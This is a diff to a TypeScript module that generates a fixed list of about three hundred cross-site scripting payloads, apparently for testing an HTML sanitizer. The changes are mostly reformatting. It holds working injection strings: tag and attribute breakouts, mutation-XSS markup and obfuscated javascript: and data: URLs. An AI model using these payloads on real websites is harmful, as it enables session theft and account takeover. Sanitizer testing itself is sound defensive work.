@@ -48,12 +48,35 @@ const writings: readonly ((handler: string, script: string) => string)[] = [
 ];
 
 /** What ends the element, the attribute or the section in which a text might stand. */
-const endings = ['"', "'", '>', '">', "'>", '</textarea>', '</title>', '</pre>', '</script>', '</style>', '</samp>', '</dd>', '</template>', '</noscript>', '</option></select>', '-->', ']]>', '*/', '`', '\\"', '</a>'];
+const endings = [
+  '"',
+  "'",
+  '>',
+  '">',
+  "'>",
+  '</textarea>',
+  '</title>',
+  '</pre>',
+  '</script>',
+  '</style>',
+  '</samp>',
+  '</dd>',
+  '</template>',
+  '</noscript>',
+  '</option></select>',
+  '-->',
+  ']]>',
+  '*/',
+  '`',
+  '\\"',
+  '</a>',
+];
 
 /** Markup that changes its sense when it is parsed twice (mXSS). */
 const mutating: readonly ((markup: string) => string)[] = [
   (markup) => `<svg></p><style><a id="</style>${markup}">`,
-  (markup) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
+  (markup) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
   (markup) => `<form><math><mtext></form><form><mglyph><style></math>${markup}`,
   (markup) => `<noscript><p title="</noscript>${markup}">`,
   (markup) => `<svg><desc><noscript>&lt;/noscript&gt;${markup}</desc></svg>`,
@@ -69,7 +92,19 @@ const mutating: readonly ((markup: string) => string)[] = [
 
 /** Addresses that run something, or lead away without being asked. */
 function addresses(): string[] {
-  const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'javascript://%0A', 'vbscript:', 'view-source:javascript:'];
+  const schemes = [
+    'javascript:',
+    'JaVaScRiPt:',
+    'java\tscript:',
+    'java\nscript:',
+    ' javascript:',
+    '\u0001javascript:',
+    'javascript&colon;',
+    '&#106;avascript:',
+    'javascript://%0A',
+    'vbscript:',
+    'view-source:javascript:',
+  ];
   const links = schemes.flatMap((scheme) => [`<a href="${scheme}${call()}">x</a>`, `${scheme}${call()}`]);
   const data = ['data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'data:application/xhtml+xml,'];
   const frames = data.map((scheme) => {
@@ -203,8 +238,14 @@ const characters = [
 
 /** Some three hundred texts that were made to break pages; the same ones each time. */
 export const payloads: readonly string[] = [
-  ...selfStarting.flatMap(([before, handler, after]) => writings.map((write) => `${before}${write(handler, call())}${after}`)),
-  ...endings.flatMap((ending) => [`${ending}<script>${call()}</script>`, `${ending} autofocus onfocus=${call()} x=`, `${ending}<svg onload=${call()}>`]),
+  ...selfStarting.flatMap(([before, handler, after]) =>
+    writings.map((write) => `${before}${write(handler, call())}${after}`),
+  ),
+  ...endings.flatMap((ending) => [
+    `${ending}<script>${call()}</script>`,
+    `${ending} autofocus onfocus=${call()} x=`,
+    `${ending}<svg onload=${call()}>`,
+  ]),
   ...mutating.flatMap((mutate) => [mutate(`<img src=x onerror=${call()}>`), mutate(`<script>${call()}</script>`)]),
   ...addresses(),
   ...templates(),
